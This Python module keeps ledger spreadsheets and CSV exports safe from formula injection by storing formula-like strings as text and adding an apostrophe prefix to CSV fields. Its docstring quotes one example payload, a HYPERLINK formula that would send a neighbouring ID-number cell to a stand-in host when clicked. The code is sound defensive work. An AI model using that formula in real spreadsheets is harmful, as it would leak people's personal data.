"""Spreadsheets the product writes keep text as text: a cell never becomes a formula.

A party named ``=HYPERLINK("http://…?x="&C2,"点此核对")`` must come out of the ledger as
those characters, not as a link that sends the neighbouring cell (an ID number) away
when clicked (OWASP, "CSV injection"). openpyxl stores any string that starts with
"=" as a formula unless the cell is typed as a string; spreadsheet programs read a
CSV cell that starts with = + - @, a tab or a carriage return as typed input. Amounts
and dates stay numbers and dates.
"""
from __future__ import annotations

from collections.abc import Iterable
from typing import Any

#: What a spreadsheet program may take for the start of a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def text_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for a write-only sheet: formula-like strings become string-typed cells, shown as written."""
    from openpyxl.cell import WriteOnlyCell

    row: list[Any] = []
    for value in values:
        if formula_like(value):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row


def text_cell(cell: Any, value: Any) -> Any:
    """Put ``value`` into a cell of an ordinary (not write-only) sheet; a string stays a string."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def no_formulas(workbook: Any) -> Any:
    """Type every cell openpyxl took for a formula as a string: the workbook's text is shown as written."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    return workbook


def csv_text(value: Any) -> Any:
    """A CSV field: formula-like text gets the leading apostrophe spreadsheets read as "this is text"."""
    return "'" + value if formula_like(value) else value
